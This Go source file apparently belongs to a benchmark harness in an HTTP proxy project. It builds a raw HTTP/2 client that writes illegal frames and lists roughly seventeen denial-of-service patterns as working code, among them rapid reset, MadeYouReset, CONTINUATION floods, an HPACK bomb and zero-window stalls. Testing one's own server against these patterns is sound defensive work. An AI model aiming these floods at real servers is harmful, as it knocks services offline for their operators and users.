package attacks

import (
	"bytes"
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/sluicehttp/sluice/tools/bench/internal/peers"
)

// A client appends frames to out.
type client struct {
	out     bytes.Buffer
	frames  *http2.Framer
	block   bytes.Buffer
	encoder *hpack.Encoder
	stream  uint32
	path    string
}

func newClient() *client {
	c := &client{stream: 1, path: peers.Target}
	c.frames = http2.NewFramer(&c.out, nil)
	c.frames.AllowIllegalWrites = true
	c.encoder = hpack.NewEncoder(&c.block)
	return c
}

// request begins a request on the client's stream, with more fields: names and values.
func (c *client) request(isLast bool, more ...string) {
	c.block.Reset()
	all := append([]string{":method", "GET", ":scheme", "http", ":authority", "h", ":path", c.path, "user-agent", "Mozilla/5.0"}, more...)
	for i := 0; i < len(all); i += 2 {
		_ = c.encoder.WriteField(hpack.HeaderField{Name: all[i], Value: all[i+1]})
	}
	c.headers(isLast)
}

// headers sends block.
func (c *client) headers(isLast bool) {
	rest, isFirst := c.block.Bytes(), true
	for isFirst || len(rest) > 0 {
		part := rest[:min(len(rest), 16<<10)]
		rest = rest[len(part):]
		if isFirst {
			_ = c.frames.WriteHeaders(http2.HeadersFrameParam{StreamID: c.stream, BlockFragment: part, EndStream: isLast, EndHeaders: len(rest) == 0})
		} else {
			_ = c.frames.WriteContinuation(c.stream, len(rest) == 0, part)
		}
		isFirst = false
	}
}

// An attack is something that a client may repeat.
type attack struct {
	name         string
	begin        func(c *client) // nil: nothing
	unit         func(c *client)
	holdsAnswers bool // the client's windows are closed
}

// upload begins a request whose body does not end.
func upload(c *client) { c.request(false) }

var allAttacks = []attack{
	{name: "rapid reset", unit: func(c *client) {
		c.request(true)
		_ = c.frames.WriteRSTStream(c.stream, http2.ErrCodeCancel)
		c.stream += 2
	}},
	{name: "MadeYouReset, window update of 0", unit: func(c *client) {
		c.request(true)
		_ = c.frames.WriteRawFrame(http2.FrameWindowUpdate, 0, c.stream, make([]byte, 4))
		c.stream += 2
	}},
	{name: "MadeYouReset, data after the end", unit: func(c *client) {
		c.request(true)
		_ = c.frames.WriteData(c.stream, true, []byte("x"))
		c.stream += 2
	}},
	{name: "empty CONTINUATION", begin: func(c *client) {
		_ = c.frames.WriteHeaders(http2.HeadersFrameParam{StreamID: 1})
	}, unit: func(c *client) { _ = c.frames.WriteContinuation(1, false, nil) }},
	{name: "full CONTINUATION", begin: func(c *client) {
		_ = c.frames.WriteHeaders(http2.HeadersFrameParam{StreamID: 1})
	}, unit: func(c *client) { _ = c.frames.WriteContinuation(1, false, bytes.Repeat([]byte{0x82}, 1<<10)) }},
	{name: "HPACK bomb, 1,000 × 3 KB", begin: func(c *client) {
		c.request(true, "x-bomb", strings.Repeat("x", 3000))
		c.stream += 2
	}, unit: func(c *client) {
		c.block.Reset()
		c.block.Write(bytes.Repeat([]byte{0x80 | 62}, 1000)) // the newest entry of the table
		c.headers(true)
		c.stream += 2
	}},
	{name: "4,000 cookie crumbs", unit: func(c *client) {
		fields := make([]string, 0, 8000)
		for range 4000 {
			fields = append(fields, "cookie", "a")
		}
		c.request(true, fields...)
		c.stream += 2
	}},
	{name: "SETTINGS", unit: func(c *client) { _ = c.frames.WriteSettings() }},
	{name: "PING", unit: func(c *client) { _ = c.frames.WritePing(false, [8]byte{}) }},
	{name: "empty DATA", begin: upload, unit: func(c *client) { _ = c.frames.WriteData(1, false, nil) }},
	{name: "padding", begin: upload, unit: func(c *client) { _ = c.frames.WriteDataPadded(1, false, nil, make([]byte, 255)) }},
	{name: "window updates of 1", unit: func(c *client) { _ = c.frames.WriteWindowUpdate(0, 1) }},
	{name: "answers with window 0", holdsAnswers: true, unit: func(c *client) {
		c.request(true)
		c.stream += 2
	}},
	{name: "requests without end", unit: func(c *client) {
		c.request(false)
		c.stream += 2
	}},
	{name: "PRIORITY", unit: func(c *client) {
		_ = c.frames.WritePriority(c.stream, http2.PriorityParam{StreamDep: c.stream + 2})
		c.stream += 4
	}},
	{name: "unknown frames", unit: func(c *client) { _ = c.frames.WriteRawFrame(0xbb, 0, 0, nil) }},
	{name: "empty field names", unit: func(c *client) {
		c.request(true, "", "x")
		c.stream += 2
	}},
}
